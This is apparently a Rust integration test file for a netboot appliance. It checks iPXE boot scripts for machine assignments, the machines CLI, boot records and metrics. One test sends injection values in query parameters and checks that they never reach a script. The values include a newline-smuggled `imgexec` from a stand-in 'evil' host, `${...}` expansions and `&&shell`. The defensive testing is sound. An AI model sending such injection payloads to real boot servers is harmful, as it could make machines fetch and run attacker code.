//! Machine assignments for netboot against the real server and binary: `/pxe/boot.ipxe`
//! answering a machine's assignment (its schematic's kernel URL and extra kernel argument),
//! the default, a retry script when nothing matches and the chain script when asked bare;
//! hostile query values that must never reach a script unescaped; `image-factory machines
//! set|list|rm` against a running appliance (ties refused at write time, durable across a
//! restart); the declarative machines file loaded at start and reloaded on SIGHUP, a bad file
//! keeping the previous set; boot records in `machines list`, `machines boots`, `/status` and
//! the metrics. `file.rs` holds the machines-file tests, `qemu.rs` a real iPXE following
//! the chain to its assignment.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::common::assets::{create_schematic, get, metric};
use crate::common::release::mini_release;
use crate::common::{TestServer, bin, client};
use crate::import::{import, key, stderr, write_pub};

mod file;

const V: &str = "v1.11.0";
/// `http.externalURL` of the in-process servers: scripts link there.
const BASE: &str = "http://factory.test:8080";

/// A temp directory whose `data/` holds the mini release v1.11.0 (imported by the CLI).
fn data_with_release() -> (tempfile::TempDir, PathBuf) {
    let t = tempfile::tempdir().expect("tmp");
    let k = key(7);
    mini_release(&t.path().join("layout"), V, k.clone(), 4096);
    let pubkey = write_pub(t.path(), &k);
    let data = t.path().join("data");
    let layout = t.path().join("layout");
    let out = import(&[
        layout.to_str().unwrap(),
        "--data-dir",
        data.to_str().unwrap(),
        "--trust-key",
        pubkey.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "import: {}", stderr(&out));
    (t, data)
}

/// An in-process server on `data` whose scripts link to [`BASE`].
async fn start(data: &Path) -> TestServer {
    let data = data.display().to_string();
    TestServer::start_with(move |c| {
        c.storage.data_dir = data;
        c.http.external_url = format!("{BASE}/");
        c.cache.gc_interval_seconds = 0;
        c.cache.scrub_interval_seconds = 0;
    })
    .await
}

/// Runs `image-factory machines ARGS --data-dir DATA` (the default admin socket and token of
/// that data directory).
async fn machines(data: &Path, args: &[&str]) -> Output {
    let mut all: Vec<String> = vec!["machines".into()];
    all.extend(args.iter().map(|a| a.to_string()));
    all.push("--data-dir".into());
    all.push(data.display().to_string());
    tokio::task::spawn_blocking(move || {
        Command::new(bin())
            .args(&all)
            .stdin(Stdio::null())
            .output()
            .expect("run machines")
    })
    .await
    .expect("join")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Runs `machines ARGS`, which must succeed; returns its standard output.
pub(crate) async fn machines_ok(data: &Path, args: &[&str]) -> String {
    let out = machines(data, args).await;
    assert!(out.status.success(), "machines {args:?}: {}", stderr(&out));
    stdout(&out)
}

/// Runs `machines ARGS`, which must be refused as invalid (exit 2); returns its stderr.
async fn machines_refused(data: &Path, args: &[&str]) -> String {
    let out = machines(data, args).await;
    assert_eq!(
        out.status.code(),
        Some(2),
        "machines {args:?}: {}{}",
        stdout(&out),
        stderr(&out)
    );
    stderr(&out)
}

/// `machines list --json`: (name, source) of every assignment, and the machines file state.
async fn listed(data: &Path) -> (Vec<(String, String)>, serde_json::Value) {
    let out = machines_ok(data, &["list", "--json"]).await;
    let v: serde_json::Value = serde_json::from_str(&out).expect("list json");
    let names = v["assignments"]
        .as_array()
        .expect("assignments")
        .iter()
        .map(|a| {
            (
                a["name"].as_str().unwrap_or("").to_string(),
                a["source"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    (names, v["machinesFile"].clone())
}

/// The chain script a bare `/pxe/boot.ipxe` answers.
fn chain_script() -> String {
    format!(
        "#!ipxe\n# image-factory: identify this machine to find its assignment\n\
         chain --replace --autofree {BASE}/pxe/boot.ipxe?mac=${{netX/mac}}&uuid=${{uuid}}\
         &serial=${{serial:uristring}}&hostname=${{hostname:uristring}}&arch=${{buildarch}}\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn boot_ipxe_serves_the_assignment_the_default_or_a_retry() {
    let (_t, data) = data_with_release();
    let s = start(&data).await;
    let a = create_schematic(&s, "customization:\n  extraKernelArgs:\n    - if.test=a\n").await;
    let b = create_schematic(&s, "customization:\n  extraKernelArgs:\n    - if.test=b\n").await;

    // Asked bare (what a DHCP server hands iPXE), it asks to be asked with the identity.
    let bare = get(&s, "/pxe/boot.ipxe", &[]).await;
    assert_eq!(bare.status, 200);
    assert_eq!(bare.header("content-type"), "text/plain; charset=utf-8");
    assert_eq!(bare.text(), chain_script());

    // What iPXE sends for a machine without UUID, serial or host name: no match, no default.
    let q = "/pxe/boot.ipxe?mac=52:54:00:aa:bb:01&uuid=&serial=&hostname=&arch=x86_64";
    let r = get(&s, q, &[]).await;
    assert_eq!(r.status, 200);
    let text = r.text();
    assert!(text.starts_with("#!ipxe\n"), "{text}");
    assert!(
        text.contains(
            "echo image-factory: no machine assignment matches this machine and there is no default\n"
        ),
        "{text}"
    );
    assert!(
        text.contains("echo image-factory: seen mac=52:54:00:aa:bb:01 uuid=(none) serial=(none) hostname=(none) arch=amd64\n"),
        "{text}"
    );
    assert!(
        text.ends_with(&format!(
            "sleep 30\nchain --replace --autofree {BASE}/pxe/boot.ipxe\n"
        )),
        "{text}"
    );
    assert!(!text.contains("kernel "), "{text}");

    // node1, by its MAC spelled with hyphens and in upper case.
    let out = machines_ok(
        &data,
        &[
            "set",
            "node1",
            "--mac",
            "52-54-00-AA-BB-01",
            "--schematic",
            &a,
            "--version",
            V,
            "--extra-kernel-arg",
            "talos.node=one",
        ],
    )
    .await;
    assert!(
        out.starts_with("created node1: mac=52:54:00:aa:bb:01 -> "),
        "{out}"
    );
    let plain = get(&s, &format!("/pxe/{a}/{V}/metal-amd64"), &[]).await;
    assert_eq!(plain.status, 200, "{}", plain.text());
    // The script of /pxe/<id>/<v>/metal-amd64, with the extra argument and the initramfs's
    // name (for UEFI iPXE builds before 1.21, see netboot::boot_script) ending the kernel line.
    let want: String = plain
        .text()
        .lines()
        .map(|l| {
            if l.starts_with("kernel ") {
                format!("{l} talos.node=one initrd=initramfs-amd64.xz\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    let booted = get(&s, q, &[]).await;
    assert_eq!(booted.status, 200);
    assert_eq!(booted.text(), want);
    assert!(
        want.contains(&format!("kernel {BASE}/image/{a}/{V}/kernel-amd64 ")),
        "{want}"
    );
    assert!(want.contains(" if.test=a "), "{want}");
    // iPXE's `hexhyp` spelling of the same MAC is the same machine.
    let hyp = get(&s, "/pxe/boot.ipxe?mac=52-54-00-aa-bb-01&arch=x86_64", &[]).await;
    assert_eq!(hyp.text(), want);

    // A default catches every other machine, without node1's argument.
    machines_ok(
        &data,
        &[
            "set",
            "fallback",
            "--default",
            "--schematic",
            &b,
            "--version",
            V,
        ],
    )
    .await;
    let other = get(
        &s,
        "/pxe/boot.ipxe?mac=52:54:00:aa:bb:02&serial=%24%7Bx%7D%0Ashell&arch=x86_64",
        &[],
    )
    .await;
    let plain_b = get(&s, &format!("/pxe/{b}/{V}/metal-amd64"), &[]).await;
    assert_eq!(other.status, 200);
    let want_b: String = plain_b
        .text()
        .lines()
        .map(|l| match l.starts_with("kernel ") {
            true => format!("{l} initrd=initramfs-amd64.xz\n"),
            false => format!("{l}\n"),
        })
        .collect();
    assert_eq!(other.text(), want_b, "the default's plain script");
    assert!(
        other
            .text()
            .contains(&format!("{BASE}/image/{b}/{V}/kernel-amd64 "))
    );
    assert!(!other.text().contains("talos.node=one"));
    assert_eq!(
        get(&s, q, &[]).await.text(),
        want,
        "node1 still gets its own"
    );

    // Boot records: `machines list`, `machines boots`, /status, metrics.
    let list = machines_ok(&data, &["list"]).await;
    let row = |name: &str| {
        list.lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_else(|| panic!("no row {name}:\n{list}"))
            .to_string()
    };
    assert!(list.starts_with("NAME "), "{list}");
    assert!(
        row("node1").ends_with("mac:52:54:00:aa:bb:01 booted metal-amd64"),
        "{list}"
    );
    assert!(row("node1").contains("talos.node=one"), "{list}");
    assert!(row("fallback").contains("(default)"), "{list}");
    assert!(
        row("fallback").ends_with("mac:52:54:00:aa:bb:02 booted metal-amd64"),
        "{list}"
    );
    let boots: serde_json::Value = serde_json::from_str(
        &machines_ok(
            &data,
            &["boots", "--machine", "mac:52:54:00:aa:bb:01", "--json"],
        )
        .await,
    )
    .expect("boots json");
    let boots = boots["boots"].as_array().expect("boots").clone();
    let outcomes: Vec<&str> = boots
        .iter()
        .map(|b| b["outcome"].as_str().unwrap())
        .collect();
    assert_eq!(
        outcomes,
        ["booted", "booted", "booted", "retry"],
        "{boots:?}"
    );
    assert_eq!(boots[0]["assignment"], "node1");
    assert_eq!(boots[0]["schematic"], a.as_str());
    assert_eq!(boots[0]["version"], V);
    assert_eq!(boots[0]["path"], "metal-amd64");
    assert_eq!(
        boots[0]["extraKernelArgs"],
        serde_json::json!(["talos.node=one"])
    );
    assert!(
        boots[3]["reason"]
            .as_str()
            .unwrap()
            .contains("no machine assignment matches")
    );
    let status = s.status().await;
    let nb = &status["netboot"];
    assert_eq!(nb["assignments"], 2);
    assert_eq!(nb["default"], "fallback");
    assert_eq!(nb["bootsSinceStart"], 4);
    assert_eq!(nb["retriesSinceStart"], 1);
    assert_eq!(nb["lastBoots"][0]["machine"], "mac:52:54:00:aa:bb:01");
    assert_eq!(nb["lastBoots"][1]["assignment"], "fallback");
    assert_eq!(nb["lastBoots"][1]["path"], "metal-amd64");
    // The hostile serial was refused (by name), not recorded.
    let other: serde_json::Value = serde_json::from_str(
        &machines_ok(
            &data,
            &["boots", "--machine", "mac:52:54:00:aa:bb:02", "--json"],
        )
        .await,
    )
    .expect("boots json");
    let rec = &other["boots"][0];
    assert_eq!(rec["outcome"], "booted");
    assert_eq!(rec.get("serial"), None, "{rec}");
    assert_eq!(
        rec["reason"],
        "refused identifiers: serial: only printable ASCII without dollar signs, quotes or backslashes"
    );
    let boots_of = |name: &str| format!("assignment=\"{name}\"");
    assert_eq!(
        metric(
            &s,
            "image_factory_netboot_boots_total",
            &[&boots_of("node1")]
        )
        .await,
        3.0
    );
    assert_eq!(
        metric(
            &s,
            "image_factory_netboot_boots_total",
            &[&boots_of("fallback")]
        )
        .await,
        1.0
    );
    assert_eq!(
        metric(
            &s,
            "image_factory_netboot_retries_total",
            &["reason=\"unassigned\""]
        )
        .await,
        1.0
    );
    s.stop().await;
}

/// Whether `line` of a retry script is one of the lines such a script may have.
fn safe_retry_line(line: &str) -> bool {
    let safe = |t: &str| {
        t.chars()
            .all(|c| c.is_ascii_alphanumeric() || " ._:=,()/+@%-<>[]*".contains(c))
    };
    line == "#!ipxe"
        || line == format!("chain --replace --autofree {BASE}/pxe/boot.ipxe")
        || line
            .strip_prefix("sleep ")
            .is_some_and(|n| n.parse::<u64>().is_ok())
        || line
            .strip_prefix("echo image-factory: ")
            .is_some_and(|t| t.len() <= 200 && safe(t))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_boot_queries_are_answered_with_safe_scripts() {
    let s = TestServer::start_with(|c| c.http.external_url = format!("{BASE}/")).await;
    let long = "a".repeat(300);
    let queries = [
        format!("mac={long}&uuid={long}&serial={long}&hostname={long}"),
        "mac=%24%7Bnet0%2Fip%7D&serial=%0Aimgexec%20http%3A%2F%2Fevil%2Fx&hostname=a%26%26shell"
            .to_string(),
        "serial=%22%27%5C%24%7Bx%7D%3B%23&uuid=%FF%FE&hostname=%00".to_string(),
        "arch=arm32".to_string(),
        "arch=x86_64%0Ashell&mac=52:54:00:00:00:01".to_string(),
        "x=1&".repeat(2000),
        format!("serial={}", "%41".repeat(200)),
        "mac=52:54:00:00:00:01&mac=%24%7Bx%7D&serial=ok%20serial%20%2F%20v2".to_string(),
        "mac=52%3A54%3A00%3A00%3A00%3A01%00".to_string(),
        "=&&&=%%%&mac&uuid=%".to_string(),
    ];
    for q in &queries {
        let r = get(&s, &format!("/pxe/boot.ipxe?{q}"), &[]).await;
        assert_eq!(r.status, 200, "{q}");
        let text = r.text();
        assert!(text.starts_with("#!ipxe\n"), "{q}: {text}");
        for line in text.lines() {
            assert!(
                safe_retry_line(line),
                "{q}: unsafe line {line:?} in\n{text}"
            );
        }
        for needle in ["${", "evil", "shell", "imgexec", "aaaaaaaaaa"] {
            assert!(!text.contains(needle), "{q}: {needle:?} reached\n{text}");
        }
    }
    // What was accepted is shown normalised; a refused identifier only by its name.
    let ok = get(
        &s,
        "/pxe/boot.ipxe?mac=52:54:00:00:00:01&mac=%24%7Bx%7D&serial=ok%20serial%20%2F%20v2",
        &[],
    )
    .await
    .text();
    assert!(
        ok.contains("seen mac=52:54:00:00:00:01 uuid=(none) serial=ok serial / v2 hostname=(none) arch=(none)"),
        "{ok}"
    );
    let bad_arch = get(&s, "/pxe/boot.ipxe?arch=arm32", &[]).await.text();
    assert!(
        bad_arch.contains("cannot boot this machine: arch: unsupported architecture"),
        "{bad_arch}"
    );
    // Boot records hold no raw value either.
    let (c, url) = s.admin("/admin/netboot/boots?limit=100");
    let token = std::fs::read_to_string(s.dir.path().join("keys/admin-token")).expect("token");
    let records = c
        .get(url)
        .bearer_auth(token.trim())
        .send()
        .await
        .expect("boots")
        .text()
        .await
        .expect("text");
    for needle in ["${", "evil", "shell", "aaaaaaaaaa"] {
        assert!(!records.contains(needle), "{needle:?} recorded: {records}");
    }
    let status = s.status().await;
    assert_eq!(status["netboot"]["retriesSinceStart"], queries.len() + 2);
    assert_eq!(
        metric(
            &s,
            "image_factory_netboot_retries_total",
            &["reason=\"invalid\""]
        )
        .await,
        4.0,
        "the three arch refusals and the over-long query"
    );
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn machines_set_list_rm_through_the_cli() {
    let s = TestServer::start().await;
    let data = s.dir.path().to_path_buf();
    let id = create_schematic(&s, "{}").await;
    let set = |name: &'static str, extra: &'static [&'static str]| {
        let mut v = vec!["set", name];
        v.extend_from_slice(extra);
        v
    };
    let with_boot = |mut v: Vec<&'static str>, id: &str| -> Vec<String> {
        v.extend_from_slice(&["--version", V]);
        let mut v: Vec<String> = v.into_iter().map(str::to_string).collect();
        v.push("--schematic".into());
        v.push(id.to_string());
        v
    };
    let run = |args: Vec<String>| {
        let data = data.clone();
        async move {
            let refs: Vec<&str> = args.iter().map(String::as_str).collect();
            machines(&data, &refs).await
        }
    };

    let out = run(with_boot(set("n1", &["--mac", "52:54:00:00:00:01"]), &id)).await;
    assert!(out.status.success(), "{}", stderr(&out));
    // One machine could have this MAC and this serial: a tie, refused at write time.
    let tie = run(with_boot(set("n2", &["--serial", "S1"]), &id)).await;
    assert_eq!(tie.status.code(), Some(2), "{}", stderr(&tie));
    assert!(
        stderr(&tie).contains(
            "409 Conflict: assignment n2 (serial=S1) ties with api assignment n1 (mac=52:54:00:00:00:01)"
        ),
        "{}",
        stderr(&tie)
    );
    // More specific than n1 (two fields): no tie.
    let out = run(with_boot(
        set("n3", &["--mac", "52:54:00:00:00:01", "--arch", "arm64"]),
        &id,
    ))
    .await;
    assert!(out.status.success(), "{}", stderr(&out));
    let no_selector = run(with_boot(set("n4", &[]), &id)).await;
    assert_eq!(no_selector.status.code(), Some(2));
    assert!(
        stderr(&no_selector).contains("give a selector"),
        "{}",
        stderr(&no_selector)
    );
    let unknown = run(with_boot(
        set("n5", &["--mac", "52:54:00:00:00:05"]),
        &"b".repeat(64),
    ))
    .await;
    assert_eq!(unknown.status.code(), Some(2));
    assert!(
        stderr(&unknown).contains("is not stored on this appliance"),
        "{}",
        stderr(&unknown)
    );
    let bad_mac = run(with_boot(set("n6", &["--mac", "52:54:00:00:00"]), &id)).await;
    assert_eq!(bad_mac.status.code(), Some(2));
    assert!(
        stderr(&bad_mac).contains("selector mac: not a MAC address"),
        "{}",
        stderr(&bad_mac)
    );
    // Replacing n1 by its UUID (any case).
    let out = run(with_boot(
        set("n1", &["--uuid", "4C4C4544-0042-4A10-8058-B4C04F4D4E31"]),
        &id,
    ))
    .await;
    assert!(
        stdout(&out).starts_with("replaced n1: uuid=4c4c4544-0042-4a10-8058-b4c04f4d4e31"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );

    let table = machines_ok(&data, &["list"]).await;
    let lines: Vec<&str> = table.lines().collect();
    assert!(lines[0].starts_with("NAME  "), "{table}");
    assert!(
        lines[1].starts_with("n1 ")
            && lines[1].contains("uuid=4c4c4544-0042-4a10-8058-b4c04f4d4e31")
            && lines[1].ends_with("never"),
        "{table}"
    );
    assert!(
        lines[2].starts_with("n3 ") && lines[2].contains("mac=52:54:00:00:00:01,arch=arm64"),
        "{table}"
    );
    assert_eq!(lines.len(), 3, "{table}");

    assert_eq!(machines_ok(&data, &["rm", "n3"]).await, "removed n3\n");
    let again = machines_refused(&data, &["rm", "n3"]).await;
    assert!(
        again.contains("404 Not Found: no assignment named n3"),
        "{again}"
    );
    // The admin API is not on the public listener.
    let public = client()
        .put(s.url("/admin/machines/x"))
        .body("{}")
        .send()
        .await
        .expect("put");
    assert_eq!(public.status().as_u16(), 404);

    // Durable across a restart.
    let dir = s.stop_keep_dir().await;
    let s = start(dir.path()).await;
    let (names, _) = listed(dir.path()).await;
    assert_eq!(names, [("n1".to_string(), "api".to_string())]);
    s.stop().await;
}

/// With neither `http.externalURL` nor `http.externalPXEURL` set (a zero-configuration
/// `serve`), scripts link to the host the machine reached the appliance at, not to the
/// default `localhost` that no machine can reach; a `Host` that is not a plain host name falls
/// back to the default. (With a URL configured, the tests above see it win over the client's
/// `Host`.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn zero_config_scripts_link_to_the_host_the_machine_reached() {
    let (_t, data) = data_with_release();
    let dir = data.display().to_string();
    let s = TestServer::start_with(move |c| {
        c.storage.data_dir = dir;
        c.cache.gc_interval_seconds = 0;
        c.cache.scrub_interval_seconds = 0;
    })
    .await;
    let id = create_schematic(&s, "customization:\n  extraKernelArgs:\n    - if.test=z\n").await;
    let path = format!("/pxe/{id}/{V}/metal-amd64");

    let slirp = [("host", "10.0.2.2:8080")];
    let text = get(&s, &path, &slirp).await.text();
    assert!(
        text.contains(&format!(
            "kernel http://10.0.2.2:8080/image/{id}/{V}/kernel-amd64 "
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "initrd http://10.0.2.2:8080/image/{id}/{V}/initramfs-amd64.xz\n"
        )),
        "{text}"
    );
    let bare = get(&s, "/pxe/boot.ipxe", &slirp).await.text();
    assert!(
        bare.contains("chain --replace --autofree http://10.0.2.2:8080/pxe/boot.ipxe?"),
        "{bare}"
    );

    let odd = get(&s, &path, &[("host", "evil.test/x?y")]).await;
    assert_eq!(odd.status, 200);
    assert!(
        odd.text().contains(&format!(
            "kernel http://localhost:8080/image/{id}/{V}/kernel-amd64 "
        )),
        "{}",
        odd.text()
    );
}
